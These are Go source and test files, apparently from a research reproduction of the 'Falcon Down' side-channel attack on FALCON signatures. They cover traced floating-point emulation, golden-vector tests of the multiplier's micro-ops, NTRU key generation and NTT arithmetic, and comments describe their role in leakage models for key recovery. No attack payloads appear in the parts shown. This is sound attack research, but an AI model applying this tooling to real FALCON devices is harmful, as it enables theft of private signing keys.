	if s := FromFloat64(1.5).String(); s != "1.5" {
		t.Errorf("String = %q", s)
	}
}

func BenchmarkMul(b *testing.B) {
	x := FromFloat64(1.2345678)
	y := FromFloat64(-0.87654321)
	for i := 0; i < b.N; i++ {
		x = Mul(x, y)
		if x.IsZero() {
			x = One
		}
	}
}

func BenchmarkMulTraced(b *testing.B) {
	x := FromFloat64(1.2345678)
	y := FromFloat64(-0.87654321)
	var rec SliceRecorder
	for i := 0; i < b.N; i++ {
		rec.Reset()
		x = MulTraced(x, y, &rec)
		if x.IsZero() {
			x = One
		}
	}
}

func BenchmarkAdd(b *testing.B) {
	x := FromFloat64(1.2345678)
	y := FromFloat64(0.87654321)
	for i := 0; i < b.N; i++ {
		x = Add(x, y)
		if x.BiasedExp() > 1500 {
			x = One
		}
	}
}
