// Package fpr implements the emulated IEEE-754 binary64 arithmetic used by
// the FALCON signature scheme's reference implementation.
//
// FALCON performs its Fast Fourier Transform over 64-bit floating-point
// values and, on platforms without a constant-time FPU, emulates the
// arithmetic in software: the 53-bit mantissas (52 stored bits plus the
// implicit leading one) are split into a high 28-bit half and a low 25-bit
// half, multiplied schoolbook-style into four partial products, recombined
// with intermediate additions, rounded to nearest-even, the 11-bit exponents
// added and the sign bits XOR-ed.
//
// This package reproduces that structure exactly, because the structure is
// the attack surface of "Falcon Down" (Karabulut & Aysu, DAC 2021): every
// micro-operation of the emulated multiplier and adder can be observed
// through a Recorder, from which the emleak package synthesizes
// electromagnetic side-channel traces.
//
// The arithmetic itself is bit-exact with hardware float64 operations for
// all normal (non-subnormal, non-overflowing) inputs and results, which the
// test suite asserts exhaustively with property-based tests. Subnormal
// results are flushed to zero, as in FALCON's reference emulation, and
// overflow saturates to infinity; neither occurs in FALCON's numeric range.
package fpr

import "math"

// FPR is a FALCON floating-point value: the raw IEEE-754 binary64 bit
// pattern, manipulated with integer-only operations.
type FPR uint64

// Useful field masks and widths of the binary64 format.
const (
	signBit   = uint64(1) << 63
	expMask   = uint64(0x7FF) << 52
	mantMask  = (uint64(1) << 52) - 1
	implicit  = uint64(1) << 52 // implicit leading mantissa bit
	expBias   = 1023
	mantBits  = 52
	loSplit   = 25 // low mantissa half width (paper: B, D)
	hiSplit   = 28 // high mantissa half width (paper: A, C)
	loMask    = (uint64(1) << loSplit) - 1
	maxBiased = 0x7FF
)

// Frequently used constants.
var (
	Zero     = FromFloat64(0)
	One      = FromFloat64(1)
	Two      = FromFloat64(2)
	Half     = FromFloat64(0.5)
	NegOne   = FromFloat64(-1)
	Sqrt2    = FromFloat64(math.Sqrt2)
	ISqrt2   = FromFloat64(1 / math.Sqrt2)
	Log2     = FromFloat64(math.Ln2)
	ILog2    = FromFloat64(1 / math.Ln2)
	Pi       = FromFloat64(math.Pi)
	PTwo63   = FromFloat64(9223372036854775808.0) // 2^63
	InvQ4096 = FromFloat64(1.0 / 4096)
)

// FromFloat64 converts a hardware float64 to an FPR. The conversion is free:
// an FPR is the IEEE-754 bit pattern itself.
func FromFloat64(v float64) FPR { return FPR(math.Float64bits(v)) }

// Float64 converts back to a hardware float64.
func (x FPR) Float64() float64 { return math.Float64frombits(uint64(x)) }

// FromInt64 converts a signed integer to the nearest FPR, rounding to
// nearest-even when |v| exceeds 2^53 (it never does inside FALCON).
func FromInt64(v int64) FPR { return FromScaled(v, 0) }

// FromScaled returns v * 2^sc as an FPR, rounding to nearest-even.
// It mirrors FALCON's fpr_scaled and is used when converting scaled big
// integers during key generation.
func FromScaled(v int64, sc int) FPR {
	if v == 0 {
		return Zero
	}
	var s uint64
	u := uint64(v)
	if v < 0 {
		s = signBit
		u = uint64(-v)
	}
	// Normalize u into the roundPack convention: m in [2^54, 2^55) with
	// value = m/2^54 · 2^e, jamming shifted-out bits for correct rounding.
	e := 54 + sc
	sticky := false
	for u >= 1<<55 {
		if u&1 != 0 {
			sticky = true
		}
		u >>= 1
		e++
	}
	for u < 1<<54 {
		u <<= 1
		e--
	}
	if sticky {
		u |= 1
	}
	return roundPack(s, e, u)
}

// pack assembles sign bit s (already positioned at bit 63), unbiased
// exponent e and 53-bit normalized mantissa m in [2^52, 2^53) into an FPR.
// Subnormal results flush to signed zero; overflow saturates to infinity.
func pack(s uint64, e int, m uint64) FPR {
	be := e + expBias
	if be <= 0 {
		return FPR(s) // flush to zero
	}
	if be >= maxBiased {
		return FPR(s | expMask) // infinity
	}
	return FPR(s | uint64(be)<<52 | (m & mantMask))
}

// Sign reports the sign bit (1 for negative, 0 otherwise).
func (x FPR) Sign() int { return int(uint64(x) >> 63) }

// BiasedExp returns the 11-bit biased exponent field.
func (x FPR) BiasedExp() int { return int((uint64(x) >> 52) & 0x7FF) }

// Mantissa returns the 52 stored mantissa bits (without the implicit one).
func (x FPR) Mantissa() uint64 { return uint64(x) & mantMask }

// MantissaFull returns the full 53-bit significand including the implicit
// leading one (zero input yields zero).
func (x FPR) MantissaFull() uint64 {
	if x.IsZero() {
		return 0
	}
	return x.Mantissa() | implicit
}

// MantissaHalves returns the high 28-bit and low 25-bit halves of the full
// 53-bit significand, the split FALCON's emulated multiplier operates on.
// In the paper's notation the halves of the known operand are (A, B) and of
// the secret operand (C, D).
func (x FPR) MantissaHalves() (hi, lo uint64) {
	m := x.MantissaFull()
	return m >> loSplit, m & loMask
}

// IsZero reports whether x is positive or negative zero.
func (x FPR) IsZero() bool { return uint64(x)&^signBit == 0 }

// Neg returns -x.
func Neg(x FPR) FPR { return x ^ FPR(signBit) }

// Abs returns |x|.
func Abs(x FPR) FPR { return x &^ FPR(signBit) }

// Half2 returns x/2 (FALCON's fpr_half): exact exponent decrement.
func Half2(x FPR) FPR {
	if x.IsZero() {
		return x
	}
	be := x.BiasedExp()
	if be <= 1 {
		return x & FPR(signBit) // flush
	}
	return x - FPR(uint64(1)<<52)
}

// Double returns 2*x (FALCON's fpr_double): exact exponent increment.
func Double(x FPR) FPR {
	if x.IsZero() {
		return x
	}
	be := x.BiasedExp()
	if be >= maxBiased-1 {
		return x | FPR(expMask)
	}
	return x + FPR(uint64(1)<<52)
}

// Lt reports x < y for finite values (FALCON's fpr_lt).
func Lt(x, y FPR) bool { return x.Float64() < y.Float64() }

// magLess reports |x| < |y| comparing the raw magnitude fields, which works
// because the IEEE encoding is monotone in magnitude.
func magLess(x, y FPR) bool {
	return uint64(x)&^signBit < uint64(y)&^signBit
}

// Rint rounds x to the nearest int64, ties to even (FALCON's fpr_rint).
// The input must satisfy |x| < 2^63.
func Rint(x FPR) int64 {
	if x.IsZero() {
		return 0
	}
	e := x.BiasedExp() - expBias // unbiased exponent
	m := x.MantissaFull()        // value = m * 2^(e-52)
	neg := x.Sign() == 1
	shift := 52 - e
	var v uint64
	switch {
	case shift <= 0:
		v = m << uint(-shift)
	case shift > 54:
		v = 0
	default:
		lost := m & ((uint64(1) << uint(shift)) - 1)
		v = m >> uint(shift)
		half := uint64(1) << uint(shift-1)
		if lost > half || (lost == half && v&1 == 1) {
			v++
		}
	}
	if neg {
		return -int64(v)
	}
	return int64(v)
}

// Floor returns the largest integer not greater than x, as an int64.
func Floor(x FPR) int64 {
	t := Trunc(x)
	if x.Sign() == 1 && FromInt64(t) != x {
		return t - 1
	}
	return t
}

// Trunc rounds x toward zero, as an int64.
func Trunc(x FPR) int64 {
	if x.IsZero() {
		return 0
	}
	e := x.BiasedExp() - expBias
	if e < 0 {
		return 0
	}
	m := x.MantissaFull()
	shift := 52 - e
	var v uint64
	if shift <= 0 {
		v = m << uint(-shift)
	} else {
		v = m >> uint(shift)
	}
	if x.Sign() == 1 {
		return -int64(v)
	}
	return int64(v)
}

// String formats the value like a float64 for diagnostics.
func (x FPR) String() string {
	return strconvFormat(x.Float64())
}
