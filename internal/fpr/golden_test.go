package fpr

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

var updateGolden = flag.Bool("update", false, "rewrite the MulTraced golden vector file")

// The golden-vector regression freezes the exact micro-op sequence of the
// emulated multiplier. The CPA jobs predict these values bit-for-bit
// (partial products, intermediate sums, exponent adder, sign XOR), so any
// drift in the datapath emulation — a changed rounding path, a reordered
// record, a different carry split — silently breaks the leakage model the
// whole attack rests on. This test pins the sequence to a committed file;
// an intentional datapath change regenerates it with `go test
// ./internal/fpr -run Golden -update` and shows up as a reviewable diff.

// goldenRNG is an inlined SplitMix64 so the vectors never depend on the
// standard library generator changing across Go releases.
type goldenRNG uint64

func (r *goldenRNG) next() uint64 {
	*r += 0x9E3779B97F4A7C15
	z := uint64(*r)
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// goldenOperands builds the fixed operand set: datapath specials (zeros,
// powers of two, all-ones mantissas, one) plus seeded values whose biased
// exponents sit in the FFT(f)-coefficient range the attack sees.
func goldenOperands() []FPR {
	ops := []FPR{
		0,                           // +0
		FPR(1) << 63,                // -0
		FPR(1023) << 52,             // +1.0 (power-of-two mantissa)
		FPR(1023)<<52 | 1<<63,       // -1.0
		FPR(1000) << 52,             // small power of two
		FPR(1046)<<52 | (1<<52 - 1), // all-ones mantissa, top of the range
		FPR(1023)<<52 | 1,           // one ulp above 1.0 (carry-chain seed)
	}
	r := goldenRNG(0x5EED)
	for i := 0; i < 17; i++ {
		sign := r.next() & (1 << 63)
		exp := 1000 + r.next()%47 // biased exponents the attack encounters
		mant := r.next() & (1<<52 - 1)
		ops = append(ops, FPR(sign|exp<<52|mant))
	}
	return ops
}

func TestMulTracedGoldenVectors(t *testing.T) {
	operands := goldenOperands()
	var sb strings.Builder
	var rec SliceRecorder
	for _, x := range operands {
		for _, y := range operands {
			rec.Reset()
			z := MulTraced(x, y, &rec)
			fmt.Fprintf(&sb, "x=%016x y=%016x z=%016x", uint64(x), uint64(y), uint64(z))
			for i := range rec.Ops {
				fmt.Fprintf(&sb, " %d:%016x", uint8(rec.Ops[i]), rec.Values[i])
			}
			sb.WriteByte('\n')
		}
	}
	got := sb.String()

	path := filepath.Join("testdata", "multraced_golden.txt")
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("rewrote %s (%d vectors)", path, len(operands)*len(operands))
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("golden file missing (regenerate with -update): %v", err)
	}
	if got == string(want) {
		return
	}
	// Pinpoint the first diverging vector for the failure message.
	gl := strings.Split(got, "\n")
	wl := strings.Split(string(want), "\n")
	for i := range gl {
		if i >= len(wl) || gl[i] != wl[i] {
			wantLine := "<missing>"
			if i < len(wl) {
				wantLine = wl[i]
			}
			t.Fatalf("MulTraced micro-op sequence drifted from the golden vectors at line %d:\n got: %s\nwant: %s", i+1, gl[i], wantLine)
		}
	}
	t.Fatal("MulTraced golden vectors differ in length")
}
