package ntru

import (
	"math"
	"testing"

	"falcondown/internal/ntt"
	"falcondown/internal/rng"
)

func TestSolveSmall(t *testing.T) {
	r := rng.New(1)
	for _, n := range []int{2, 4, 8, 16, 32, 64} {
		sigma := SigmaFG(n)
		var f, g []int16
		var F, G []int16
		var err error
		for tries := 0; tries < 200; tries++ {
			f = samplePoly(n, sigma, r)
			g = samplePoly(n, sigma, r)
			F, G, err = Solve(f, g)
			if err == nil {
				break
			}
		}
		if err != nil {
			t.Fatalf("n=%d: no solvable pair in 200 tries: %v", n, err)
		}
		if !VerifyEquation(f, g, F, G) {
			t.Fatalf("n=%d: fG - gF != q", n)
		}
	}
}

func TestSolveBaseSigns(t *testing.T) {
	// Exercise all sign combinations at the bottom of the recursion.
	cases := [][2]int16{{3, 5}, {-3, 5}, {3, -5}, {-3, -5}, {1, 0}, {0, 1}, {-1, 0}}
	for _, c := range cases {
		f := []int16{c[0], 0}
		g := []int16{c[1], 0}
		// Degree-2 solve exercises one descent level plus the base case.
		F, G, err := Solve(f, g)
		if err != nil {
			t.Fatalf("Solve(%v, %v): %v", c[0], c[1], err)
		}
		if !VerifyEquation(f, g, F, G) {
			t.Fatalf("equation fails for %v", c)
		}
	}
}

func TestSolveRejectsCommonFactor(t *testing.T) {
	// f and g both even: resultants share a factor of 2 at the base.
	f := []int16{2, 0, 0, 0}
	g := []int16{2, 0, 0, 0}
	if _, _, err := Solve(f, g); err == nil {
		t.Fatal("expected failure for non-coprime f, g")
	}
}

func TestGenerate(t *testing.T) {
	r := rng.New(7)
	for _, n := range []int{8, 32, 64} {
		key, err := Generate(n, r)
		if err != nil {
			t.Fatalf("n=%d: %v", n, err)
		}
		if !VerifyEquation(key.Fs, key.Gs, key.F, key.G) {
			t.Fatalf("n=%d: NTRU equation violated", n)
		}
		// h·f == g mod q.
		hf := ntt.MulModQ(key.H, ntt.FromSigned(key.Fs))
		gq := ntt.FromSigned(key.Gs)
		for i := range hf {
			if hf[i] != gq[i] {
				t.Fatalf("n=%d: h·f != g at %d", n, i)
			}
		}
		// Key range constraints for the codec.
		for i := range key.F {
			if key.F[i] < -127 || key.F[i] > 127 || key.G[i] < -127 || key.G[i] > 127 {
				t.Fatalf("n=%d: F/G out of encoding range", n)
			}
		}
	}
}

func TestGenerateInvalidDegree(t *testing.T) {
	r := rng.New(1)
	for _, n := range []int{0, 1, 3, 12, 2048} {
		if _, err := Generate(n, r); err == nil {
			t.Errorf("n=%d accepted", n)
		}
	}
}

func TestGSNorm(t *testing.T) {
	// For a well-balanced pair, GS norm should be within the keygen
	// acceptance bound reasonably often; for an extreme pair it must blow
	// up.
	r := rng.New(3)
	n := 64
	sigma := SigmaFG(n)
	accepted := 0
	for i := 0; i < 50; i++ {
		f := samplePoly(n, sigma, r)
		g := samplePoly(n, sigma, r)
		if GSNorm(f, g) <= 1.17*1.17*float64(Q) {
			accepted++
		}
	}
	if accepted == 0 {
		t.Fatal("no sample passed the GS bound in 50 tries")
	}
	// A tiny (f, g) makes the *second* Gram-Schmidt vector enormous.
	tiny := make([]int16, n)
	tiny[0] = 1
	if GSNorm(tiny, make([]int16, n)) <= 1.17*1.17*float64(Q) {
		t.Fatal("degenerate pair passed the GS bound")
	}
}

func TestSigmaFG(t *testing.T) {
	// σ{f,g} = 1.17·√(q/2n): spot value for n=512.
	want := 1.17 * math.Sqrt(float64(Q)/1024.0)
	if got := SigmaFG(512); math.Abs(got-want) > 1e-12 {
		t.Fatalf("SigmaFG(512) = %v", got)
	}
	if SigmaFG(2) <= SigmaFG(1024) {
		t.Fatal("sigma must shrink with n")
	}
}

func TestSamplePolyMoments(t *testing.T) {
	r := rng.New(4)
	n := 4096
	sigma := 4.0
	f := samplePoly(n, sigma, r)
	var sum, sumSq float64
	for _, v := range f {
		sum += float64(v)
		sumSq += float64(v) * float64(v)
	}
	mean := sum / float64(n)
	if math.Abs(mean) > 0.3 {
		t.Errorf("mean = %v", mean)
	}
	sd := math.Sqrt(sumSq/float64(n) - mean*mean)
	if math.Abs(sd-sigma) > 0.4 {
		t.Errorf("sd = %v, want ~%v", sd, sigma)
	}
}

func TestSolve512(t *testing.T) {
	if testing.Short() {
		t.Skip("full FALCON-512 NTRU solve in -short mode")
	}
	r := rng.New(512)
	key, err := Generate(512, r)
	if err != nil {
		t.Fatalf("Generate(512): %v", err)
	}
	if !VerifyEquation(key.Fs, key.Gs, key.F, key.G) {
		t.Fatal("NTRU equation violated at n=512")
	}
}
