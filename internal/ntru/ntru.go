// Package ntru implements FALCON's NTRU key generation: sampling the
// private elements f and g, checking their Gram-Schmidt quality, and
// solving the NTRU equation fG − gF = q mod (x^n+1) by the recursive
// field-norm descent ("NTRUSolve").
package ntru

import (
	"errors"
	"fmt"
	"math"
	"math/big"
	"math/cmplx"

	"falcondown/internal/bigpoly"
	"falcondown/internal/ntt"
	"falcondown/internal/rng"
)

// Q is FALCON's modulus.
const Q = ntt.Q

// ErrNotInvertible reports that the NTRU equation has no solution for the
// sampled f, g (their resultants with x^n+1 are not coprime, or f is not
// invertible mod q).
var ErrNotInvertible = errors.New("ntru: f, g admit no NTRU solution")

var bigOne = big.NewInt(1)

// Solve returns F, G with fG − gF = q mod (x^n+1), by descending the tower
// of fields via field norms, solving a scalar Bézout identity at the
// bottom, lifting back up, and length-reducing against (f, g) at each
// level (Babai reduction).
func Solve(f, g []int16) ([]int16, []int16, error) {
	F, G, err := solveRec(bigpoly.FromInt16(f), bigpoly.FromInt16(g))
	if err != nil {
		return nil, nil, err
	}
	Fi, ok := F.ToInt16()
	if !ok {
		return nil, nil, fmt.Errorf("ntru: F overflows int16 after reduction")
	}
	Gi, ok := G.ToInt16()
	if !ok {
		return nil, nil, fmt.Errorf("ntru: G overflows int16 after reduction")
	}
	return Fi, Gi, nil
}

func solveRec(f, g bigpoly.Poly) (bigpoly.Poly, bigpoly.Poly, error) {
	n := len(f)
	if n == 1 {
		return solveBase(f[0], g[0])
	}
	fp := bigpoly.FieldNorm(f)
	gp := bigpoly.FieldNorm(g)
	Fp, Gp, err := solveRec(fp, gp)
	if err != nil {
		return nil, nil, err
	}
	// fp(x²) = f(x)·f(-x), so multiplying the lifted half-size solution by
	// the Galois conjugates yields fG − gF = q one level up.
	F := bigpoly.Mul(bigpoly.Lift(Fp), bigpoly.GaloisConjugate(g))
	G := bigpoly.Mul(bigpoly.Lift(Gp), bigpoly.GaloisConjugate(f))
	bigpoly.Reduce(f, g, F, G)
	return F, G, nil
}

// solveBase solves the degree-0 case: find integers u, v with
// u·f0 + v·g0 = 1, giving G = u·q and F = −v·q.
func solveBase(f0, g0 *big.Int) (bigpoly.Poly, bigpoly.Poly, error) {
	af := new(big.Int).Abs(f0)
	ag := new(big.Int).Abs(g0)
	var gcd, u, v big.Int
	gcd.GCD(&u, &v, af, ag)
	if gcd.Cmp(bigOne) != 0 {
		return nil, nil, ErrNotInvertible
	}
	if f0.Sign() < 0 {
		u.Neg(&u)
	}
	if g0.Sign() < 0 {
		v.Neg(&v)
	}
	q := big.NewInt(Q)
	F := bigpoly.Poly{new(big.Int).Mul(&v, new(big.Int).Neg(q))}
	G := bigpoly.Poly{new(big.Int).Mul(&u, q)}
	return F, G, nil
}

// VerifyEquation checks fG − gF = q mod (x^n+1) exactly.
func VerifyEquation(f, g, F, G []int16) bool {
	lhs := bigpoly.Sub(
		bigpoly.Mul(bigpoly.FromInt16(f), bigpoly.FromInt16(G)),
		bigpoly.Mul(bigpoly.FromInt16(g), bigpoly.FromInt16(F)),
	)
	if lhs[0].Cmp(big.NewInt(Q)) != 0 {
		return false
	}
	for _, c := range lhs[1:] {
		if c.Sign() != 0 {
			return false
		}
	}
	return true
}

// GSNorm returns the squared Gram-Schmidt norm of the NTRU basis generated
// by (f, g): the larger of ‖(g, −f)‖² and the squared norm of the second
// Gram-Schmidt vector ‖(qf̄/(ff̄+gḡ), qḡ/(ff̄+gḡ))‖². Keygen rejects the
// sample when this exceeds (1.17)²·q.
func GSNorm(f, g []int16) float64 {
	n := len(f)
	var sq float64
	ff := make([]float64, n)
	gg := make([]float64, n)
	for i := 0; i < n; i++ {
		ff[i] = float64(f[i])
		gg[i] = float64(g[i])
		sq += ff[i]*ff[i] + gg[i]*gg[i]
	}
	Fh := bigpoly.FloatFFT(ff)
	Gh := bigpoly.FloatFFT(gg)
	// Parseval with the half spectrum: ‖p‖² = (2/n)·Σ|p(w_k)|².
	var sqFG float64
	for k := range Fh {
		d := real(Fh[k]*cmplx.Conj(Fh[k]) + Gh[k]*cmplx.Conj(Gh[k]))
		sqFG += float64(Q) * float64(Q) / d
	}
	sqFG *= 2 / float64(n)
	return math.Max(sq, sqFG)
}

// Key holds the four private NTRU elements and the public key.
type Key struct {
	F, G []int16  // private elements solving fG − gF = q (capital pair)
	Fs   []int16  // f: sampled small element
	Gs   []int16  // g: sampled small element
	H    []uint16 // public key h = g·f⁻¹ mod q, coefficients in [0, q)
}

// SigmaFG returns the standard deviation used to sample the coefficients of
// f and g: σ{f,g} = 1.17·√(q/2n), which targets ‖(f,g)‖ ≈ 1.17·√q.
func SigmaFG(n int) float64 {
	return 1.17 * math.Sqrt(float64(Q)/float64(2*n))
}

// samplePoly draws an n-coefficient polynomial with rounded-Gaussian
// coefficients of standard deviation sigma.
func samplePoly(n int, sigma float64, r *rng.Xoshiro) []int16 {
	f := make([]int16, n)
	for i := range f {
		f[i] = int16(math.Round(r.Gaussian(0, sigma)))
	}
	return f
}

// Generate samples f, g and solves for F, G, retrying until all keygen
// acceptance tests pass, and returns the complete NTRU key. n must be a
// power of two between 2 and 1024.
func Generate(n int, r *rng.Xoshiro) (*Key, error) {
	if n < 2 || n > 1024 || n&(n-1) != 0 {
		return nil, fmt.Errorf("ntru: invalid degree %d", n)
	}
	sigma := SigmaFG(n)
	for attempt := 0; attempt < 1000; attempt++ {
		f := samplePoly(n, sigma, r)
		g := samplePoly(n, sigma, r)
		if GSNorm(f, g) > 1.17*1.17*float64(Q) {
			continue
		}
		fq := ntt.FromSigned(f)
		finv, ok := ntt.InvModQ(fq)
		if !ok {
			continue
		}
		F, G, err := Solve(f, g)
		if err != nil {
			continue
		}
		if !fitsKeyRange(F) || !fitsKeyRange(G) {
			continue
		}
		h := ntt.MulModQ(ntt.FromSigned(g), finv)
		return &Key{F: F, G: G, Fs: f, Gs: g, H: h}, nil
	}
	return nil, errors.New("ntru: key generation did not converge in 1000 attempts")
}

// fitsKeyRange checks the encoding bound |c| <= 127 used for F and G in
// FALCON's secret-key format.
func fitsKeyRange(p []int16) bool {
	for _, c := range p {
		if c < -127 || c > 127 {
			return false
		}
	}
	return true
}
