package ntt

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestModPowInv(t *testing.T) {
	for a := uint32(1); a < 200; a++ {
		if got := modMul(a, ModInv(a)); got != 1 {
			t.Fatalf("a·a⁻¹ = %d for a=%d", got, a)
		}
	}
	if ModPow(3, 0) != 1 {
		t.Errorf("x^0 != 1")
	}
	if ModPow(2, 12) != 4096 {
		t.Errorf("2^12 = %d", ModPow(2, 12))
	}
}

func TestGeneratorIsPrimitive(t *testing.T) {
	g := generator()
	// Order must be exactly q-1: g^((q-1)/p) != 1 for p in {2, 3}.
	if ModPow(g, (Q-1)/2) == 1 || ModPow(g, (Q-1)/3) == 1 {
		t.Fatalf("g=%d is not primitive", g)
	}
	if ModPow(g, Q-1) != 1 {
		t.Fatalf("g^(q-1) != 1")
	}
}

func TestNTTRoundTrip(t *testing.T) {
	r := rand.New(rand.NewSource(1))
	for _, n := range []int{2, 4, 8, 64, 512, 1024} {
		a := make([]uint16, n)
		for i := range a {
			a[i] = uint16(r.Intn(Q))
		}
		b := append([]uint16(nil), a...)
		NTT(b)
		InvNTT(b)
		for i := range a {
			if a[i] != b[i] {
				t.Fatalf("n=%d i=%d: %d != %d", n, i, b[i], a[i])
			}
		}
	}
}

// schoolbookNegacyclic computes a*b mod (x^n+1, q) directly.
func schoolbookNegacyclic(a, b []uint16) []uint16 {
	n := len(a)
	acc := make([]int64, n)
	for i := 0; i < n; i++ {
		for j := 0; j < n; j++ {
			p := int64(a[i]) * int64(b[j])
			if i+j >= n {
				acc[i+j-n] -= p
			} else {
				acc[i+j] += p
			}
		}
	}
	out := make([]uint16, n)
	for i, v := range acc {
		m := v % Q
		if m < 0 {
			m += Q
		}
		out[i] = uint16(m)
	}
	return out
}

func TestMulModQMatchesSchoolbook(t *testing.T) {
	r := rand.New(rand.NewSource(2))
	for _, n := range []int{2, 8, 32, 128} {
		a := make([]uint16, n)
		b := make([]uint16, n)
		for i := 0; i < n; i++ {
			a[i] = uint16(r.Intn(Q))
			b[i] = uint16(r.Intn(Q))
		}
		got := MulModQ(a, b)
		want := schoolbookNegacyclic(a, b)
		for i := range got {
			if got[i] != want[i] {
				t.Fatalf("n=%d i=%d: %d != %d", n, i, got[i], want[i])
			}
		}
	}
}

func TestInvModQ(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	n := 64
	found := false
	for tries := 0; tries < 50 && !found; tries++ {
		a := make([]uint16, n)
		for i := range a {
			a[i] = uint16(r.Intn(Q))
		}
		inv, ok := InvModQ(a)
		if !ok {
			continue
		}
		found = true
		prod := MulModQ(a, inv)
		if prod[0] != 1 {
			t.Fatalf("a·a⁻¹ constant term = %d", prod[0])
		}
		for i := 1; i < n; i++ {
			if prod[i] != 0 {
				t.Fatalf("a·a⁻¹ coeff %d = %d", i, prod[i])
			}
		}
	}
	if !found {
		t.Fatal("no invertible polynomial found in 50 tries (astronomically unlikely)")
	}
}

func TestInvertibleDetectsZeroDivisors(t *testing.T) {
	// x^n+1 factors completely mod q, so a polynomial equal to one NTT
	// basis vector's zero pattern must be rejected. The polynomial
	// (x - ψ^brev) has a zero NTT coordinate; easier: a polynomial that is
	// zero everywhere is trivially non-invertible.
	n := 16
	zero := make([]uint16, n)
	if Invertible(zero) {
		t.Fatal("zero polynomial reported invertible")
	}
	if _, ok := InvModQ(zero); ok {
		t.Fatal("InvModQ succeeded on zero")
	}
	one := make([]uint16, n)
	one[0] = 1
	inv, ok := InvModQ(one)
	if !ok || inv[0] != 1 {
		t.Fatal("identity not its own inverse")
	}
}

func TestFromSignedCenter(t *testing.T) {
	f := []int16{0, 1, -1, 127, -127, 6144, -6144}
	u := FromSigned(f)
	want := []uint16{0, 1, Q - 1, 127, Q - 127, 6144, Q - 6144}
	for i := range u {
		if u[i] != want[i] {
			t.Fatalf("FromSigned[%d] = %d, want %d", i, u[i], want[i])
		}
	}
	for i, v := range u {
		c := Center(v)
		m := int32(f[i]) % Q
		if m > Q/2 {
			m -= Q
		}
		if m < -Q/2 {
			m += Q
		}
		if c != m {
			t.Fatalf("Center(%d) = %d, want %d", v, c, m)
		}
	}
}

func TestAddSubModQ(t *testing.T) {
	r := rand.New(rand.NewSource(4))
	n := 32
	a := make([]uint16, n)
	b := make([]uint16, n)
	for i := 0; i < n; i++ {
		a[i] = uint16(r.Intn(Q))
		b[i] = uint16(r.Intn(Q))
	}
	s := AddModQ(a, b)
	d := SubModQ(s, b)
	for i := range a {
		if d[i] != a[i] {
			t.Fatalf("(a+b)-b != a at %d", i)
		}
		if int(s[i]) != (int(a[i])+int(b[i]))%Q {
			t.Fatalf("AddModQ wrong at %d", i)
		}
	}
}

func TestQuickNTTLinear(t *testing.T) {
	// NTT(a+b) == NTT(a)+NTT(b) coefficient-wise.
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		n := 64
		a := make([]uint16, n)
		b := make([]uint16, n)
		for i := 0; i < n; i++ {
			a[i] = uint16(r.Intn(Q))
			b[i] = uint16(r.Intn(Q))
		}
		s := AddModQ(a, b)
		NTT(s)
		NTT(a)
		NTT(b)
		for i := range s {
			if s[i] != uint16(modAdd(uint32(a[i]), uint32(b[i]))) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestButterflySteps(t *testing.T) {
	steps := ButterflySteps(5, 7, 11)
	if steps[0] != 77 || steps[1] != 82 || steps[2] != modSub(5, 77) {
		t.Fatalf("steps = %v", steps)
	}
	// Wraparound case.
	steps = ButterflySteps(Q-1, Q-1, Q-1)
	p := uint32(Q-1) * uint32(Q-1) % Q
	if steps[0] != p || steps[1] != modAdd(Q-1, p) || steps[2] != modSub(Q-1, p) {
		t.Fatalf("wrap steps = %v", steps)
	}
}

func TestUnsupportedSizePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("no panic for size 3")
		}
	}()
	NTT(make([]uint16, 3))
}

func BenchmarkNTT512(b *testing.B) {
	r := rand.New(rand.NewSource(5))
	a := make([]uint16, 512)
	for i := range a {
		a[i] = uint16(r.Intn(Q))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		NTT(a)
	}
}

func BenchmarkMulModQ512(b *testing.B) {
	r := rand.New(rand.NewSource(6))
	x := make([]uint16, 512)
	y := make([]uint16, 512)
	for i := range x {
		x[i] = uint16(r.Intn(Q))
		y[i] = uint16(r.Intn(Q))
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		MulModQ(x, y)
	}
}
