// Package ntt implements the negacyclic Number Theoretic Transform over
// Z_q[x]/(x^n+1) with FALCON's modulus q = 12289.
//
// FALCON itself signs in the floating-point FFT domain (the attack surface
// of the paper), but integer arithmetic modulo q is still needed for the
// public key h = g·f⁻¹ mod q, for keygen's invertibility check, and for
// signature verification (s1 = c − s2·h mod q). The package also backs the
// paper's §V.C discussion experiment comparing the side-channel leakage of
// NTT butterflies with that of the floating-point FFT multiplier.
//
// All parameters (generator, 2n-th roots of unity) are derived at runtime
// from q, so no magic tables are embedded.
package ntt

import (
	"fmt"
	"math/bits"
	"sync"
)

// Q is FALCON's prime modulus, q = 12289 = 3·2^12 + 1.
const Q = 12289

// modAdd returns (a+b) mod q.
func modAdd(a, b uint32) uint32 {
	s := a + b
	if s >= Q {
		s -= Q
	}
	return s
}

// modSub returns (a-b) mod q.
func modSub(a, b uint32) uint32 {
	if a >= b {
		return a - b
	}
	return a + Q - b
}

// modMul returns (a*b) mod q.
func modMul(a, b uint32) uint32 { return a * b % Q }

// ModPow returns a^e mod q.
func ModPow(a uint32, e uint32) uint32 {
	r := uint32(1)
	base := a % Q
	for e > 0 {
		if e&1 == 1 {
			r = modMul(r, base)
		}
		base = modMul(base, base)
		e >>= 1
	}
	return r
}

// ModInv returns a^{-1} mod q for a != 0 (q is prime).
func ModInv(a uint32) uint32 { return ModPow(a, Q-2) }

// generator returns the smallest primitive root modulo q.
// q-1 = 2^12 · 3, so g is primitive iff g^((q-1)/2) != 1 and
// g^((q-1)/3) != 1.
func generator() uint32 {
	for g := uint32(2); ; g++ {
